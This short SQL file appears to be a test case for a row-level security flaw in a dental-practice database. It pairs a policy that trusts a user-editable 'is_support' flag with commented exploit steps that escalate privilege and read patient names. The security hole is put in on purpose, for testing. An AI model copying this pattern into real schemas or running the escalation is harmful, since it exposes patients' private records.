-- Support staff see all practices: the flag is in the profile, which each user may change.
-- about: profiles, is_support, support_reads, patients
-- as: hf_dental_app
-- exploit: SET request.jwt.claims = '{"sub": "ua"}';
-- exploit: UPDATE dental.profiles SET is_support = true;
-- exploit: SELECT name FROM dental.patients;
-- shows: Pat-secret
ALTER TABLE dental.profiles ADD COLUMN is_support boolean NOT NULL DEFAULT false;
CREATE POLICY support_reads ON dental.patients FOR SELECT TO hf_dental_app
  USING (EXISTS (SELECT 1 FROM dental.profiles p WHERE p.user_id = dental.who() AND p.is_support));
